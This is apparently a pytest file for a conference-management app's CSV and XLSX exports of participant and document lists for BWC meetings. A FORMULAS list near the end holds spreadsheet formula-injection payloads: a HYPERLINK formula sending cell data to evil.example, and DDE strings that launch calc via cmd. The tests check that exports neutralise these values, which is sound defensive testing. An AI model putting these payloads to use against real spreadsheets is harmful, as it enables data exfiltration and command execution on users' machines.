"""Lists of participants and documents as CSV and XLSX."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from plenary.core.actor import Actor
from plenary.meetings.models import Meeting
from plenary.participation.domain import register_delegation
from tests.api.conftest import parties_on

MSP = "/api/meetings/BWC/MSP/2017"


def get(client, path: str, **params):
    response = client.get(path, params, HTTP_HOST="localhost")
    assert response.status_code == 200, response.content[:300]
    return response


def read_csv(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_participants_csv(db, client):
    response = get(client, f"{MSP}/participants.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="BWC_MSP_2017-participants-EN.csv"'
    rows = read_csv(response.content)
    assert list(rows[0]) == [
        "category",
        "status",
        "code",
        "delegation",
        "name",
        "honorific",
        "function",
        "role",
    ]
    parties = [r for r in rows if r["category"] == "state_party"]
    assert len(parties) == 116
    assert rows[0] == {
        "category": "state_party",
        "status": "registered",
        "code": "AFG",
        "delegation": "Afghanistan",
        "name": "",
        "honorific": "",
        "function": "",
        "role": "",
    }
    assert [r["code"] for r in rows[116:120]] == ["SYR", "TZA", "ISR", "NAM"]
    assert [r["category"] for r in rows[116:]] == ["signatory"] * 2 + ["observer_state"] * 2 + ["un"] * 4 + [
        "io"
    ] * 9
    assert rows[120]["delegation"] == "United Nations"


def test_participants_in_arabic_and_with_members(db, client):
    meeting = Meeting.objects.get(series="BWC/MSP/2018")
    (state,) = parties_on(meeting, 1)
    register_delegation(
        meeting,
        by=Actor.system("test"),
        state=state,
        members=[
            {"name": "A. Head", "honorific": "Ms", "function": "Ambassador", "role": "head"},
            {"name": "B. C."},
        ],
    )
    rows = read_csv(get(client, "/api/meetings/BWC/MSP/2018/participants.csv", lang="ar").content)
    assert [(r["code"], r["name"], r["role"]) for r in rows] == [
        (state.code, "A. Head", "head"),
        (state.code, "B. C.", "member"),
    ]
    assert rows[0]["delegation"] == state.names.get(lang="ar", valid_to__isnull=True).name


def test_participants_xlsx(db, client):
    response = get(client, f"{MSP}/participants.xlsx", lang="zh")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="BWC_MSP_2017-participants-ZH.xlsx"'
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "participants"
    rows = [[c if c is not None else "" for c in row] for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == ["category", "status", "code", "delegation", "name", "honorific", "function", "role"]
    assert all(cell.font.bold for cell in sheet[1])
    assert not sheet["A2"].font.bold
    assert rows[1][:4] == ["state_party", "registered", "AFG", "阿富汗"]
    assert len(rows) == 1 + 133
    assert sum(1 for r in rows if r[0] == "state_party") == 116
    assert sheet.column_dimensions["A"].width == len("observer_state") + 2


def test_documents_csv_and_xlsx(db, client):
    response = get(client, f"{MSP}/documents.csv", lang="zh")
    assert response["Content-Disposition"] == 'attachment; filename="BWC_MSP_2017-documents-ZH.csv"'
    rows = read_csv(response.content)
    assert len(rows) == 36
    assert rows[0]["symbol"] == "BWC/MSP/2017/1"
    wp13 = next(r for r in rows if r["symbol"] == "BWC/MSP/2017/WP.13")
    assert wp13["title"] == "自愿访问：改善《生物及毒素武器公约》框架下合作的途径"
    assert wp13["title_language"] == "zh"
    assert wp13["submitters"].startswith("智利; 厄瓜多尔; 萨尔瓦多")
    assert (wp13["original_language"], wp13["official_versions"], wp13["informal_translations"]) == (
        "es",
        "es",
        "en",
    )
    three = next(r for r in rows if r["symbol"] == "BWC/MSP/2017/3")
    assert three["submitters"] == "秘书处"
    assert three["official_versions"] == "ar zh en fr ru es"  # the UN's order
    wp9 = next(r for r in rows if r["symbol"] == "BWC/MSP/2017/WP.9")
    assert wp9["co_sponsors"] == "日本; 美利坚合众国"

    book = load_workbook(io.BytesIO(get(client, f"{MSP}/documents.xlsx").content))
    sheet = book["documents"]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][:3] == ("symbol", "title", "title_language")
    assert len(values) == 37
    assert sheet["A1"].font.bold


def test_bad_format_and_unknown_meeting(db, client):
    bad = client.get(f"{MSP}/participants.pdf", HTTP_HOST="localhost")
    assert (bad.status_code, bad.json()) == (400, {"detail": "unknown format 'pdf': use one of csv, xlsx"})
    missing = client.get("/api/meetings/BWC/MSP/2099/documents.csv", HTTP_HOST="localhost")
    assert (missing.status_code, missing.json()) == (404, {"detail": "no meeting BWC/MSP/2099"})


def test_the_public_list_names_no_one_before_a_list_is_issued(db, client, monkeypatch):
    import datetime as dt

    from plenary.core import clock

    monkeypatch.setattr(clock, "today", lambda: dt.date(2018, 11, 15))  # before BWC/MSP/2018
    meeting = Meeting.objects.get(series="BWC/MSP/2018")
    first, second = parties_on(meeting, 2)
    register_delegation(
        meeting, by=Actor.system("test"), state=first, members=[{"family_name": "Hidden", "role": "head"}]
    )
    register_delegation(
        meeting,
        by=Actor.system("test"),
        state=second,
        review="received",
        members=[{"family_name": "X", "role": "head"}],
    )
    rows = read_csv(get(client, "/api/meetings/BWC/MSP/2018/participants.csv").content)
    assert [(r["code"], r["name"], r["role"]) for r in rows] == [(first.code, "", "")]


# Values a delegate or an NGO could type that a spreadsheet would run as formulas (OWASP's
# payloads, and the full-width forms some CJK spreadsheets read as the same).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+41 22 917 12 34",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def payload_delegation():
    meeting = Meeting.objects.get(series="BWC/MSP/2018")
    (state,) = parties_on(meeting, 1)
    register_delegation(
        meeting,
        by=Actor.system("test"),
        state=state,
        members=[
            {"name": value, "honorific": "Ms", "function": value, "role": "head" if i == 0 else "member"}
            for i, value in enumerate(FORMULAS)
        ],
    )
    return meeting


def test_no_value_in_a_csv_export_starts_a_formula(db, client):
    meeting = payload_delegation()
    rows = read_csv(get(client, "/api/meetings/BWC/MSP/2018/participants.csv").content)
    # (The domain strips the tab and the carriage return; what is left starts a formula too.)
    assert [(r["name"], r["function"]) for r in rows] == [
        ("'" + v.strip(), "'" + v.strip()) for v in FORMULAS
    ]
    from plenary.exports.tables import badges_file

    content, _name, _mime = badges_file(meeting, "csv")
    functions = [r["function"] for r in read_csv(content)]
    assert functions == ["'" + v.strip() for v in FORMULAS]


def test_no_cell_of_an_xlsx_export_is_a_formula(db, client):
    meeting = payload_delegation()
    from plenary.exports.tables import badges_file

    for content in (
        get(client, "/api/meetings/BWC/MSP/2018/participants.xlsx").content,
        badges_file(meeting, "xlsx")[0],
    ):
        sheet = load_workbook(io.BytesIO(content)).active
        cells = [c for row in sheet.iter_rows() for c in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        header = [c.value for c in sheet[1]]
        functions = [row[header.index("function")] for row in sheet.iter_rows(min_row=2, values_only=True)]
        assert functions == ["'" + v.strip() for v in FORMULAS]


def test_ordinary_values_are_left_as_they_are():
    from plenary.exports.tables import neutralised

    assert [neutralised(v) for v in ["Ms A. Head", "", 12, -3, "a=b", "BWC/MSP/2017/6"]] == [
        "Ms A. Head",
        "",
        12,
        -3,
        "a=b",
        "BWC/MSP/2017/6",
    ]
